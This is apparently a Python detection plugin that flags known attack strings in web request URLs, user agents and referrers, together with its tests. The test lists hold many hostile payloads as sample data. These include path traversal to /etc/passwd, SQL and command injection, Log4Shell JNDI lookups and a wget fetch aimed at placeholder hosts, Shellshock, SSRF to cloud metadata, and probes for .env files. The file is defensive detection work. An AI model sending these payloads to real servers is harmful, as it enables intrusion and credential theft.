from typing import NamedTuple

from pluginhost import Alert, Event, analyzer

from ._signatures import in_header, in_url, listed, listings

PARTS = (("url.original", "URL", in_url), ("user_agent.original", "user agent", in_header),
         ("http.request.referrer", "referrer", in_header))

BUILT_IN = "built in"


class Found(NamedTuple):
    """What was found: its name, the list it stands on and the text there (or, built in, the words of the request), in which part of it,
    after how many decodings, how bad it is, the technique."""

    name: str
    source: str
    text: str
    part: str
    decoded: int
    severity: str
    technique: str


@analyzer(where="event.category:web AND _exists_:url.original", group="source.ip")
def web_signatures(event: Event, lists: tuple[str, ...] = ("bad_strings", "bad_patterns"), ignored: tuple[str, ...] = ()) -> Alert | None:
    """Known-bad strings in web requests.

    Looks for signs of known attacks in the requested URL, and for the few that come in headers also in the user agent and the referrer: as
    they were sent and percent-decoded once or twice, in any case. Besides, everything is looked for that stands on the `lists` you have
    (see [enrichment](enrichment.md): `literals` and `patterns`), in all three parts. `ignored` names signatures that are usual at your
    site, such as `CMS probe` where WordPress runs.
    """
    found = _found(event, lists, ignored)
    if found is None:
        return None
    where = f"the {found.part}, {('as sent', 'decoded once', 'decoded twice')[found.decoded]}"
    what = f"a sign of {found.name}" if found.source == BUILT_IN else f"what the list {found.source} names"
    return Alert(found.severity, f"{found.name} attempt from {event.get('source.ip', 'unknown')}", technique=found.technique,
                 reason=f"{where}, holds {what}: {found.text}",
                 fields={"pluginhost.signature.name": found.name, "pluginhost.signature.list": found.source,
                         "pluginhost.signature.text": found.text, "pluginhost.signature.part": found.part,
                         "pluginhost.signature.decoded": found.decoded})


def _found(event: Event, lists: tuple[str, ...], ignored: tuple[str, ...]) -> Found | None:
    """The first thing found: the URL comes first, and what is built in."""
    texts = []
    for field, part, find in PARTS:
        if (text := event.get(field)).__class__ is str:
            if (hit := find(text, ignored)) is not None:
                sign = hit.signature
                return Found(sign.what, BUILT_IN, hit.text, part, hit.decoded, sign.severity, sign.technique)
            texts.append((text, part))
    for name, listing in listings(event, lists):
        for text, part in texts:
            if (entry := listed(listing, text)) is not None:
                return Found(entry[0].note or "listed string", name, entry[0].value, part, entry[1], "medium", "T1190")
    return None


def line(path, agent="curl/8.5", referrer="-"):
    return f'203.0.113.9 - - [21/Nov/2026:10:00:00 +0000] "GET {path} HTTP/1.1" 200 12 "{referrer}" "{agent}"'


BAD = ("/download?file=../../../../etc/passwd", "/..%2f..%2fetc/passwd", "/a?f=%252e%252e%252f%252e%252e%252f", "/static/..;/admin",
       "/search?q=%3CScript%3Ealert(1)", "/?q=<img+src=x+onerror=alert(1)>", "/?next=javascript:alert(document.cookie)",
       "/products?id=1+UNION+SELECT+name,password+FROM+users", "/products?id=1%27%20or%20%271%27=%271", "/?id=1;DROP+TABLE+users",
       "/?id=1/**/union/**/all/**/select/**/1", "/?id=1%20and%20sleep(5)", "/?id=1'--", "/login?user[$ne]=1", "/?u=*)(uid=*))(|(uid=*",
       "/ping?host=1.1.1.1;cat%20/etc/hosts", "/?c=$(id)", "/?x=%60whoami%60", "/cgi-bin/x?a=|wget+http://192.0.2.1/x",
       "/?x=${jndi:ldap://192.0.2.1/a}", "/?x=${${::-j}ndi:rmi://192.0.2.1}", "/?page=php://filter/convert.base64-encode/resource=index",
       "/?name={{7*7}}",
       "/?class.module.classLoader.resources=1", "/?x=%3C!ENTITY%20a", "/?url=http://169.254.169.254/latest/meta-data/",
       "/?url=http://127.0.0.1:8080/", "/?a=%0d%0aSet-Cookie:%20a=b", "/?data=rO0ABXNyAA", "/uploads/c99.php", "/.git/config", "/.env",
       "/backup.zip", "/wp-login.php", "/phpmyadmin/", "/actuator/heapdump", "/a%00.png")
GOOD = ("/search?q=script+union+of+painters", "/search?q=select+committee+from+1990+and+union+dues", "/search?q=java+script+book",
        "/search?q=rock+%26+roll", "/a?next=%2Faccount%2Forders", "/api/items?filter[price]=10&sort=-id", "/search?q=o%27brien+and+sons",
        "/docs/etc/passwords-policy", "/q?text=Tom%20%26%20Jerry%3B%20the%20cat", "/img/a..b.png", "/environment",
        "/a?redirect=https://shop.example/b", "/items/17/reviews?page=2", "/search?q=5+or+6+pieces", "/%E2%82%AC/preis",
        "/search?q=cats+|+dogs", "/a?when=2026-01-01T10:00:00%2B02:00", "/search?q=what%27s+on+tv%3F", "/gitbook/guide", "/script/editor")
for _path in BAD:
    web_signatures.fires_on(line(_path), tag="web.access", alerts=1)
for _path in GOOD:
    web_signatures.quiet_on(line(_path, "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"), tag="web.access")
web_signatures.fires_on(line("/", agent="${jndi:ldap://203.0.113.9/a}"), tag="web.access", alerts=1)
web_signatures.fires_on(line("/", agent="() { :;}; /bin/true"), tag="web.access", alerts=1)
web_signatures.fires_on(line("/", referrer="https://x/%24%7Bjndi:dns://a%7D"), tag="web.access", alerts=1)
web_signatures.fires_on(line("/x?a=Very%2541wful"), tag="web.access", alerts=1, lists={"bad_strings": ("literals", ["veryawful"])})
web_signatures.fires_on(line("/", agent="weird 7 agent"), tag="web.access", alerts=1,
                        lists={"bad_patterns": ("patterns", [r"weird \d+ agent"])})
web_signatures.quiet_on(line("/wp-login.php"), tag="web.access", ignored=["CMS probe"])
web_signatures.quiet_on(line("/nothing"), tag="web.access", lists={"bad_strings": ("literals", ["veryawful"])})
web_signatures.survives([line("/" + "%" * 50), line("/%ff%fe"), line("/" + "%25" * 20000), "203.0.113.9 - - [", {"message": None}],
                        tag="web.access")
web_signatures.survives([{"event.category": "web", "url.original": url, "user_agent.original": agent}
                         for url in (None, 7, [], ["/a"], "\ufffd", "x" * 200_000) for agent in (None, 7, [], "\ufffd")])
